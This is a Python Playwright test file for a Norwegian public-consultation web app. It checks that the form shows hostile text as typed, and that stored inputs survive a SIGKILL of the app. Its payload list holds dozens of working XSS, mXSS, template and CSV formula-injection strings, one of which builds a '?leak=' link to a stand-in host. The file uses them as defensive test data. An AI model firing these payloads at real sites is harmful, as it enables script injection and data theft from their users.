"""Trust, in a real Chromium: hostile text sent through the resident form runs nothing and
shows as typed (list and map popups), and inputs acknowledged to the resident survive a
SIGKILL of the app.

Both tests run the app with KARTINNSPILL_RATE_LIMITS=off: one browser session sends far
more than the 10 inputs per 10 minutes a resident may.
"""

from __future__ import annotations

import os
import random
import re
import signal
import time
from pathlib import Path

import duckdb
from playwright.sync_api import Error as PlaywrightError
from playwright.sync_api import Frame, Page, expect

from consultations.i18n import t
from consultations.model import TEXT_MAX
from consultations.casework.moderation import has_personal_data, mask_personal_data
from consultations.participation.submission import _LINK, MAX_LINKS
from consultations.text import clean_text, excerpt
from consultations.ui.maps import MAP_FRESHNESS
from tests.browser.helpers import (
    BORGEN,
    CATEGORY,
    CONSULTATION_PATH,
    MAP_IFRAME,
    REF,
    choose_option,
    off_host,
    page_not_found_dialog,
    wait_for_map,
    wait_idle,
)

NO_LIMITS = {"KARTINNSPILL_RATE_LIMITS": "off"}
MASKED = t("privacy.masked", "nb")  # what public views show for personal data
POPUP_EXCERPT = 200  # consultations.ui.maps.POPUP_EXCERPT (few points on the map)

# --------------------------------------------------------------------------- payloads

# Bright emoji from the Basic Multilingual Plane: one UTF-16 unit each, so 2,000 of them
# fit the textarea, whose limit counts UTF-16 units (see ASTRAL below).
BMP_EMOJI = "☀☔⚡⛄✨❤⭐⚽⛔✅☕⚓⛵✈⌛"
ASTRAL_EMOJI = "😀🎉🚀🏠🌳"  # two UTF-16 units each

# (name, text). Every text tries to run code that sets window.__xss or calls alert() with
# its own tag "xss-NN", except the pure emoji/long-word ones (encoding and layout).
PAYLOADS: list[tuple[str, str]] = [
    ("script tag", "<script>window.__xss=(window.__xss||0)+1;alert('xss-01')</script>"),
    ("img onerror", "<img src=x onerror=\"window.__xss=2;alert('xss-02')\"> bilde"),
    ("svg onload", "<svg onload=\"window.__xss=3;alert('xss-03')\"><circle r=40></circle></svg>"),
    ("iframe javascript:", "<iframe src=\"javascript:parent.__xss=4;alert('xss-04')\"></iframe>"),
    (
        "div onmouseover",
        '<div onmouseover="window.__xss=5" style="position:fixed;inset:0">xss-05 hover</div>',
    ),
    ("input autofocus", "<input autofocus onfocus=\"window.__xss=7;alert('xss-07')\">"),
    (
        "details ontoggle",
        "<details open ontoggle=\"window.__xss=8;alert('xss-08')\"><summary>xss-08</summary></details>",
    ),
    ("a href javascript:", "<a href=\"javascript:window.__xss=9;alert('xss-09')\">klikk xss-09</a>"),
    ("md link javascript:", "[klikk her xss-10](javascript:window.__xss=10;alert('xss-10'))"),
    ("md image tracker", "![xss-11 sporing](http://127.0.0.2/track.png)"),
    ("md link data:", "[xss-12](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMik8L3NjcmlwdD4=)"),
    (
        "html entities",
        "&lt;img src=x onerror=alert('xss-13')&gt; &#x3C;script&#x3E;window.__xss=13"
        "&#x3C;/script&#x3E; &amp;amp; &nbsp;",
    ),
    ("broken markup", "<scr<script>ipt>window.__xss=14;alert('xss-14')</scr</script>ipt>"),
    ("attribute break-out", "\"><script>window.__xss=15;alert('xss-15')</script>"),
    ("quote break-out", "'><img src=x onerror=window.__xss=16>'--> xss-16"),
    ("template {{ }}", "{{7*7}} {{constructor.constructor('window.__xss=17;alert(17)')()}} xss-17"),
    ("template ${ }", "${7*7} ${window.__xss=18} #{7*7} <%= 7*7 %> xss-18"),
    ("streamlit directives", ":red[rød tekst xss-20] :blue-background[blå] :material/home: :smile:"),
    ("latex", "$$\\href{javascript:alert('xss-21')}{klikk}$$ og $x^2$ xss-21"),
    ("RTL override", "xss-22 fil\u202egnp.exe og \u202etxet snudd\u202c slutt"),
    ("zero-width", "xss\u200b-23 null\u200dbredde\u200b\u200b tegn <b>fet</b> \ufeffbom"),
    ("2,000 emoji", "".join(BMP_EMOJI[i % len(BMP_EMOJI)] for i in range(TEXT_MAX))),
    ("1,000 astral emoji", "".join(ASTRAL_EMOJI[i % len(ASTRAL_EMOJI)] for i in range(1000))),
    ("2,000-letter word", "Lang" + "o" * (TEXT_MAX - 6) + "rd"),
    ("csv =HYPERLINK", '=HYPERLINK("http://127.0.0.2/?leak="&A1;"klikk xss-26")'),
    ("style display:none", "<style>body{display:none}</style> xss-27 er siden borte?"),
    ("base href", '<base href="http://127.0.0.2/"> xss-28 base'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(29)"> xss-29'),
    (
        "object/embed",
        '<object data="javascript:window.__xss=30"></object><embed src="javascript:alert(\'xss-30\')">',
    ),
    ("form formaction", '<form action="javascript:window.__xss=31"><button>xss-31</button></form>'),
    (
        "md inside html block",
        '<div>\n\n**xss-32** <span onclick="window.__xss=32">md i html</span>\n\n</div>',
    ),
    (
        "obfuscated javascript:",
        "<a href=\"jav&#x09;ascript:window.__xss=33\">xss-33</a> [b](JaVaScRiPt:alert('xss-33'))",
    ),
    ("md autolinks", "<javascript:alert('xss-34')> <http://127.0.0.2/xss-34>"),
    ("md reference link", "[xss-35][ref]\n\n[ref]: javascript:window.__xss=35"),
    (
        "</script> in JSON",
        "</script><script>window.__xss=36</script> linje\u2028skift\u2029avsnitt xss-36",
    ),
    (
        "markup + e-mail",
        '<a href="mailto:ola.nordmann@example.no" onclick="window.__xss=37">xss-37</a>',
    ),
    (
        "mXSS math/style",
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title=\"--&gt;&lt;img src=x onerror=alert('xss-38')&gt;\">",
    ),
    ("mXSS noscript", '<noscript><p title="</noscript><img src=x onerror=window.__xss=39>">'),
    ("control characters", "xss-40\x00 bjelle\x07 escape\x1b[31m rød\x1b[0m del\x7f slutt"),
    (
        "md heading/table",
        "# xss-41 overskrift\n| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=41> | c |",
    ),
    ("html comment", "<!-- xss-42 --><!--><img src=x onerror=window.__xss=42>-->"),
    ("textarea break-out", "</textarea><script>window.__xss=43</script> xss-43"),
    ("csv +cmd", "+cmd|' /C calc'!A0 xss-44 -2+3 @SUM(1+9)"),
    ("fullwidth brackets", "＜script＞alert('xss-45')＜/script＞ fullbredde"),
    ("javascript: as text", "javascript:window.__xss=46;alert('xss-46') bare tekst"),
    ("svg use data:", "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(47)'/>#x\"/></svg> xss-47"),
]
# Sent with a pin in the plan area, so they are also in the map's popups.
PINNED = {"script tag", "img onerror", "svg onload", "attribute break-out", "</script> in JSON", "markup + e-mail"}
# Held for a planner (issue 21: personal data is never published by itself): not in the
# public list nor on the map; the planner's view is another test's subject.
HELD = {"markup + e-mail"}
# Refused by the textarea (max_chars=2000): left as it was, nothing cut in two.
REFUSED_BY_TEXTAREA = [
    ("10,000 emoji", "".join(ASTRAL_EMOJI[i % len(ASTRAL_EMOJI)] for i in range(10_000))),
    ("2,001 letters", "x" * (TEXT_MAX + 1)),
]

# In every frame before any of its scripts: record dialogs and CSP violations.
TRAP = """
(() => {
    if (window.__trap) return;
    const trap = {dialogs: [], csp: []};
    Object.defineProperty(window, "__trap", {value: trap});
    for (const name of ["alert", "confirm", "prompt", "print"]) {
        window[name] = function (message) {
            trap.dialogs.push(name + ": " + String(message));
            return name === "prompt" ? null : name === "confirm" ? false : undefined;
        };
    }
    document.addEventListener("securitypolicyviolation", (e) => {
        trap.csp.push(e.violatedDirective + " " + e.blockedURI + " " + (e.sample || ""));
    }, true);
})();
"""

# Markup a payload would have made, looked for in every frame.
INJECTED = ", ".join(
    [
        'img[src="x"]',
        'img[src*="127.0.0.2"]',
        "svg[onload]",
        'iframe[src^="javascript" i]',
        'a[href^="javascript" i]',
        'a[href^="data:" i]',
        'a[href*="127.0.0.2"]',
        "base",
        'meta[http-equiv="refresh" i]',
        "object",
        "embed",
        "details[ontoggle]",
        "input[onfocus]",
        "[onerror]",
        "[onload]",
        "[onclick]",
        "[onmouseover]",
        "math",
        "mglyph",
        'form[action^="javascript" i]',
        ".katex",
    ]
)

_DOM_FINDINGS = """
(selector) => {
    const where = (e) => {
        const p = e.closest("p, .leaflet-popup-content");
        return p ? p.innerText : "";
    };
    const found = Array.from(document.querySelectorAll(selector))
        .map((e) => ({html: e.outerHTML.slice(0, 160), context: where(e)}));
    for (const s of document.querySelectorAll("style")) {
        const css = s.textContent.replace(/\\s+/g, "");
        if (css.includes("body{display:none}")) found.push({html: "<style>" + css.slice(0, 80), context: ""});
    }
    // Every text node carrying a payload's tag must sit in plain text markup (or in the
    // map's own script, as JSON data).
    const plain = new Set(["P", "DIV", "SMALL", "TEXTAREA", "STRONG"]);
    const walker = document.createTreeWalker(document.body || document, NodeFilter.SHOW_TEXT);
    for (let n = walker.nextNode(); n; n = walker.nextNode()) {
        const tag = n.parentElement.tagName;
        if (!/xss-\\d\\d/.test(n.data) || plain.has(tag)) continue;
        if (tag === "SCRIPT" && n.data.includes("L.markerClusterGroup")) continue;
        found.push({html: "<" + tag.toLowerCase() + ">" + n.data.slice(0, 60), context: where(n.parentElement)});
    }
    return found;
}
"""


_ALERTS = """
() => Array.from(document.querySelectorAll('[data-testid^="stAlertContent"]'))
    .map((e) => [e.getAttribute("data-testid"), e.innerText])
"""

# Inside the map iframe: bring the marker whose popup holds `needle` (a reference) out of
# its cluster and mark its icon for a click (polled: the map may be redrawn meanwhile).
_SHOW_MARKER = """
(needle) => {
    const map = window.map;
    if (!map) return false;
    const groups = Object.values(map._layers).filter((l) => l && l.getLayers && l.zoomToShowLayer);
    for (const g of groups) {
        for (const m of g.getLayers()) {
            const p = m.getPopup && m.getPopup();
            const content = p && p.getContent();
            if (typeof content === "string" && content.includes(needle)) {
                if (m._map && m._icon) {
                    document.querySelectorAll("[data-test=marker]").forEach((e) => e.removeAttribute("data-test"));
                    m._icon.setAttribute("data-test", "marker");
                    return true;
                }
                if (map.getZoom() !== map.getMaxZoom() || !map.getBounds().contains(m.getLatLng())) {
                    map.setView(m.getLatLng(), map.getMaxZoom(), {animate: false});
                }
                return false;
            }
        }
    }
    return false;
}
"""

_LAYOUT = """
() => {
    const vw = window.innerWidth;
    const main = document.querySelector('[data-testid="stMain"]');
    const wide = [];
    for (const e of document.querySelectorAll('[data-testid="stMarkdownContainer"] p')) {
        const r = e.getBoundingClientRect();
        if (r.right > vw + 2 || e.scrollWidth > e.clientWidth + 2) {
            wide.push({text: e.innerText.slice(0, 40), right: r.right, scroll: e.scrollWidth,
                       client: e.clientWidth});
        }
    }
    return {
        viewport: vw,
        doc: document.documentElement.scrollWidth,
        body: document.body.scrollWidth,
        main: main ? [main.scrollWidth, main.clientWidth] : null,
        wide: wide,
    };
}
"""


_RUNNING = """
() => document.querySelector('[data-testid="stApp"]')?.getAttribute("data-test-script-state")
    === "running"
"""


def _norm(text: str) -> str:
    """Whitespace as the browser's innerText leaves it, compared loosely."""
    return " ".join(text.split())


def _shown(text: str) -> str:
    """What the public list should show for `text` sent through the form."""
    return mask_personal_data(clean_text(text), MASKED)


# --------------------------------------------------------------------------- form helpers


def _map_frame(page: Page) -> Frame:
    frame = page.locator(MAP_IFRAME).first.element_handle().content_frame()
    assert frame is not None
    frame.wait_for_function("() => window.map && window.L")
    return frame


def _place_pin(page: Page, lat: float, lon: float) -> None:
    """A click on the map at (lat, lon), as Leaflet reports it to streamlit-folium."""
    wait_idle(page)
    _map_frame(page).evaluate("([lat, lon]) => window.map.fire('click', {latlng: L.latLng(lat, lon)})", [lat, lon])
    expect(page.get_by_text(f"Valgt punkt: {lat:.5f}, {lon:.5f}")).to_be_visible()
    wait_idle(page)


def _whole_area(page: Page) -> None:
    box = page.get_by_role("checkbox", name="Gjelder hele området", exact=True)
    label = page.get_by_test_id("stCheckbox").filter(has_text="Gjelder hele området").locator("label")
    for _ in range(3):
        if box.is_checked():
            return
        label.click()
    expect(box).to_be_checked()


def _fill_form(page: Page, text: str, pin: tuple[float, float] | None) -> None:
    if pin is not None:
        _place_pin(page, *pin)
    wait_idle(page)
    textarea = page.get_by_role("textbox", name="Ditt innspill", exact=True)
    expect(textarea).to_have_value("")  # the last success has reset the form
    choose_option(page, "Kategori", CATEGORY)
    textarea.fill(text)
    assert textarea.input_value() == text, "the textarea did not take the text as typed"
    if pin is None:
        _whole_area(page)


def _outcome(page: Page, seen: set[str], *, personal_data_ok: bool, timeout: float = 20.0):
    """('ok', ref) for a new reference, ('pd', text) for the personal-data warning,
    ('error', text) for a refusal."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for kind, text in page.evaluate(_ALERTS):
            if kind.endswith("Success") and "Takk" in text:
                m = REF.search(text)
                if m and m.group() not in seen:
                    return "ok", m.group()
            elif kind.endswith("Warning") and "personopplysninger" in text and personal_data_ok:
                return "pd", text
            elif kind.endswith("Error"):
                return "error", text
        time.sleep(0.05)
    raise AssertionError(f"no outcome within {timeout:.0f} s; alerts: {page.evaluate(_ALERTS)}")


def send(page: Page, text: str, seen: set[str], pin: tuple[float, float] | None = None) -> str:
    """Send `text` through the form (``pin`` or the whole area); the reference shown.

    When the form warns about personal data, "Send som det er" is chosen.
    """
    _fill_form(page, text, pin)
    page.get_by_role("button", name="Send innspill").click()
    kind, value = _outcome(page, seen, personal_data_ok=True)
    if kind == "pd":
        assert has_personal_data(text), f"personal-data warning for {text[:60]!r}"
        page.get_by_role("button", name="Send som det er").click()
        kind, value = _outcome(page, seen, personal_data_ok=False)
    assert kind == "ok", f"refused: {value!r} for {text[:80]!r}"
    seen.add(value)
    return value


_LISTED = """
() => Array.from(document.querySelectorAll('.ki-item .ki-meta'))
    .filter((e) => /KI-\\d{6}/.test(e.innerText)).length
"""


def _show_all(page: Page) -> int:
    """Press "Vis flere" until the whole list is on the page; how many it holds."""
    more = page.get_by_role("button", name="Vis flere")
    for _ in range(50):
        wait_idle(page)
        if not more.count():
            return page.evaluate(_LISTED)
        before = page.evaluate(_LISTED)
        try:
            more.click(timeout=5_000)
            page.wait_for_function(f"() => ({_LISTED.strip()})() > {before}", timeout=10_000)
        except PlaywrightError:  # redrawn under the click: look again
            continue
    raise AssertionError("the list never ended")


# --------------------------------------------------------------------------- test 1


def _seed_with_pins(points: list[tuple[float, float]]):
    def prepare(db_path: Path) -> None:
        from consultations import geo
        from consultations.demo import seed_demo
        from consultations.store import Store

        store = Store.open(db_path)
        try:
            seed_demo(store)
            area = store.get_consultation(BORGEN).area
            points.extend(geo.random_points(area, len(PINNED), random.Random(20260501)))
        finally:
            store.close()

    return prepare


def test_hostile_payloads_sent_through_the_form_show_as_typed_and_run_nothing(start_app, browser_page: Page):
    assert len(PAYLOADS) >= 30
    assert len({p for _, p in PAYLOADS}) == len(PAYLOADS), "payloads must differ"
    for name, text in PAYLOADS:
        assert 10 <= len(clean_text(text)) <= TEXT_MAX, name
        assert len(_LINK.findall(text)) <= MAX_LINKS, f"{name} would be held for moderation"

    points: list[tuple[float, float]] = []
    server = start_app(prepare=_seed_with_pins(points), env=NO_LIMITS)
    page = browser_page
    seen_urls: list[str] = page.requests_seen  # type: ignore[attr-defined]
    page.context.add_init_script(TRAP)
    dialogs: list[str] = []

    def on_dialog(dialog) -> None:
        dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", on_dialog)

    page.goto(f"{server.url}{CONSULTATION_PATH}")
    wait_for_map(page)
    wait_idle(page)
    if page_not_found_dialog(page).count():  # its own test's subject, not this one's
        page.keyboard.press("Escape")

    # Over-long text is refused whole by the textarea (max_chars), not cut mid-character.
    textarea = page.get_by_role("textbox", name="Ditt innspill", exact=True)
    for name, text in REFUSED_BY_TEXTAREA:
        textarea.fill("")
        textarea.fill(text)
        assert textarea.input_value() == "", f"{name}: textarea took {len(textarea.input_value())}"
    # Its limit counts UTF-16 units: 2,000 emoji outside the BMP (4,000 units) are refused
    # too, though the server would take them (2,000 code points).
    textarea.fill(ASTRAL_EMOJI[0] * TEXT_MAX)
    astral_2000_taken = len(textarea.input_value())
    textarea.fill("")

    refs: dict[str, str] = {}
    pins = iter(points)
    seen_refs: set[str] = set()
    started = time.monotonic()
    for name, text in PAYLOADS:
        refs[name] = send(page, text, seen_refs, pin=next(pins) if name in PINNED else None)
    send_s = time.monotonic() - started

    # A fresh visit to the consultation, everything in the list: a new session, so its map
    # may lag the others' inputs by MAP_FRESHNESS (its own are shown at once only to it).
    time.sleep(MAP_FRESHNESS)
    page.goto(f"{server.url}{CONSULTATION_PATH}")
    _, map_frame = wait_for_map(page)
    wait_idle(page)
    _show_all(page)
    page.wait_for_load_state("networkidle")
    time.sleep(0.5)  # an injected <img src=x> or tracker would have errored/loaded by now

    main_text = _norm(page.locator('[data-testid="stMain"]').inner_text())
    literal = {name: _norm(_shown(text)) in main_text for name, text in PAYLOADS if name not in HELD}
    for name, text in PAYLOADS:
        if name in HELD:
            assert refs[name] not in main_text, f"{name}: {refs[name]} was published by itself"
            continue
        assert refs[name] in main_text, f"{name}: {refs[name]} is not in the list"
    # A few the way a reader finds them.
    for piece in (
        "<script>window.__xss=(window.__xss||0)+1;alert('xss-01')</script>",
        "<img src=x onerror=\"window.__xss=2;alert('xss-02')\">",
        "[klikk her xss-10](javascript:window.__xss=10;alert('xss-10'))",
        "![xss-11 sporing](http://127.0.0.2/track.png)",
        ":red[rød tekst xss-20]",
        "$$\\href{javascript:alert('xss-21')}{klikk}$$",
        "<style>body{display:none}</style>",
        '=HYPERLINK("http://127.0.0.2/?leak="&A1;"klikk xss-26")',
    ):
        expect(page.get_by_text(piece, exact=False).first).to_be_visible()
    # Format characters (Cf) are kept as typed; control characters (Cc) are dropped.
    assert "fil\u202egnp.exe" in main_text and "null\u200dbredde\u200b\u200b" in main_text
    assert "xss-40 bjelle escape[31m rød[0m del slutt" in main_text
    assert "ola.nordmann@example.no" not in main_text

    # The map popups of the pinned ones: text, nothing else.
    popups: dict[str, bool] = {}
    map_frame = _map_frame(page)
    fl = page.frame_locator(MAP_IFRAME).first
    for name, text in PAYLOADS:
        if name not in PINNED or name in HELD:
            continue
        map_frame.wait_for_function(_SHOW_MARKER, arg=refs[name], polling=250)
        fl.locator('[data-test="marker"]').dispatch_event("click")
        popup = fl.locator(".leaflet-popup-content").filter(has_text=refs[name])
        expect(popup).to_have_count(1)
        shown = _norm(popup.inner_text())
        popups[name] = _norm(excerpt(_shown(text), POPUP_EXCERPT)) in shown
        tags = popup.evaluate("(e) => Array.from(e.querySelectorAll('*')).map((c) => c.tagName)")
        assert set(tags) <= {"STRONG", "BR", "SMALL"}, (name, tags)
        assert popups[name], f"{name}: popup shows {shown!r}"

    # Nothing ran, nothing was injected, nothing left the host.
    page.wait_for_load_state("networkidle")
    frames = [f for f in page.frames if not f.is_detached()]
    xss, trapped, csp, injected = {}, [], [], []
    for frame in frames:
        xss[frame.url[:60]] = frame.evaluate("typeof window.__xss")
        trap = frame.evaluate("window.__trap || null")
        if trap:
            trapped += trap["dialogs"]
            csp += trap["csp"]
        injected += frame.evaluate(_DOM_FINDINGS, INJECTED)
    assert page.evaluate("!!window.__trap") and map_frame.evaluate("!!window.__trap")
    layout = page.evaluate(_LAYOUT)
    bad_urls = off_host(sorted(set(seen_urls)), server.port)

    executed, markup = {}, {}
    for name, text in PAYLOADS:
        tag = re.search(r"xss-(\d\d)", text)
        marks = (tag.group(), f"({int(tag.group(1))})") if tag else ()
        executed[name] = any(m in d for m in marks for d in dialogs + trapped)
        shown = _norm(_shown(text))
        markup[name] = [f["html"] for f in injected if f["context"] and _norm(f["context"]) in shown]
    problems = []
    if not literal[name := "streamlit directives"]:
        problems.append(f"{name}: not shown as typed (':material/home:' became an icon)")
    problems += [f"{n}: not shown as typed" for n, ok in literal.items() if not ok and n != "streamlit directives"]
    problems += [f"{n}: became markup {m}" for n, m in markup.items() if m]
    unattributed = [f["html"] for f in injected if not any(f["html"] in m for m in markup.values())]
    problems += [f"injected element: {h}" for h in unattributed]
    if layout["doc"] > layout["viewport"] + 2 or layout["body"] > layout["viewport"] + 2:
        problems.append(f"the page is wider than the viewport: {layout}")
    if layout["main"] is not None and layout["main"][0] > layout["main"][1] + 2:
        problems.append(f"the main area scrolls sideways: {layout}")
    problems += [f"text overflows its box: {w}" for w in layout["wide"]]

    print(
        f"\nsent {len(PAYLOADS)} payloads in {send_s:.1f} s ({len(PINNED)} pinned); "
        f"the textarea took {astral_2000_taken} of 2,000 emoji outside the BMP"
    )
    print(f"{'payload':<24} {'ref':<10} {'executed':<9} {'literal':<8} {'markup':<7} popup")
    for name, _ in PAYLOADS:
        popup = {True: "literal", False: "NOT LITERAL"}.get(popups.get(name), "")
        print(
            f"{name:<24} {refs[name]:<10} {'YES' if executed[name] else 'no':<9} "
            f"{'held' if name in HELD else 'yes' if literal[name] else 'NO':<8} {'YES' if markup[name] else 'no':<7} "
            f"{popup}"
        )
    print(
        f"tried {len(PAYLOADS)}, executed {sum(executed.values())}, "
        f"shown literally {sum(literal.values())}, became markup "
        f"{sum(bool(m) for m in markup.values())}, popups literal {sum(popups.values())}"
        f"/{len(popups)}; dialogs {len(dialogs) + len(trapped)}; CSP violations {len(csp)}; "
        f"off-host requests {len(bad_urls)}; page width {layout['doc']} in a "
        f"{layout['viewport']} px viewport"
    )

    assert not dialogs and not trapped, dialogs + trapped
    assert set(xss.values()) == {"undefined"}, xss
    assert not [v for v in csp if "xss" in v or "127.0.0.2" in v], csp
    assert not bad_urls, "requests left the app host:\n" + "\n".join(bad_urls)
    assert not problems, "\n".join(problems)


# --------------------------------------------------------------------------- test 2


def test_acknowledged_inputs_survive_sigkill_of_the_app(start_app, browser_page: Page):
    server = start_app(env=NO_LIMITS)
    db_path = server.db_path
    page = browser_page
    page.goto(f"{server.url}{CONSULTATION_PATH}")
    wait_for_map(page)
    wait_idle(page)

    run = f"{random.Random().getrandbits(32):08x}"
    acknowledged: dict[str, str] = {}  # reference -> text
    seen: set[str] = set()
    n = 0
    while len(acknowledged) < 10:
        n += 1
        text = f"Krasjtest {run} nummer {n}: gangvei langs Borgenveien må belyses."
        acknowledged[send(page, text, seen)] = text
    n += 1
    in_flight = f"Krasjtest {run} nummer {n}: sendt idet appen ble drept."
    _fill_form(page, in_flight, None)

    pid = server.proc.pid
    assert server.running()
    with open(f"/proc/{pid}/cmdline", "rb") as f:  # the streamlit process itself
        assert b"streamlit\0run\0serve.py" in f.read()
    page.get_by_role("button", name="Send innspill").click()
    try:  # kill while the server runs the submission, if it gets that far in time
        page.wait_for_function(_RUNNING, timeout=1_000, polling="raf")
    except PlaywrightError:
        pass
    os.kill(pid, signal.SIGKILL)
    assert server.proc.wait(timeout=10) == -signal.SIGKILL
    submitted = n
    # Had the thank-you made it to the browser before the kill, it counts as acknowledged.
    for kind, shown in page.evaluate(_ALERTS):
        m = REF.search(shown)
        if kind.endswith("Success") and m and m.group() not in seen:
            acknowledged[m.group()] = in_flight

    # A fresh server on the same file: it must open it and serve what was acknowledged.
    again = start_app(env={**NO_LIMITS, "KARTINNSPILL_DB": str(db_path)})
    page.goto(f"{again.url}{CONSULTATION_PATH}")
    wait_for_map(page)
    wait_idle(page)
    last_ref = max(acknowledged)
    expect(page.get_by_text(last_ref, exact=False).first).to_be_visible()
    again.stop()

    con = duckdb.connect(str(db_path), read_only=True)
    try:
        counts = {
            name: con.execute(f'SELECT count(*) FROM "{schema}"."{name}"').fetchone()[0]
            for schema, name in con.execute(
                "SELECT schema_name, table_name FROM duckdb_tables() ORDER BY 1, 2"
            ).fetchall()
        }
        rows = con.execute("SELECT id, text FROM inputs WHERE text LIKE ?", [f"Krasjtest {run} %"]).fetchall()
    finally:
        con.close()
    assert counts.get("inputs", 0) > 0, counts
    by_text: dict[str, list[int]] = {}
    for input_id, text in rows:
        by_text.setdefault(text, []).append(input_id)
    for ref, text in acknowledged.items():
        assert by_text.get(text) == [int(ref[3:])], (ref, text, by_text.get(text))
    assert len(by_text.get(in_flight, [])) <= 1, by_text.get(in_flight)
    print(
        f"\nsubmitted {submitted}, acknowledged {len(acknowledged)}, stored {len(rows)} "
        f"(the one in flight at SIGKILL: {'stored' if in_flight in by_text else 'not stored'}); "
        f"tables after restart: {counts}"
    )
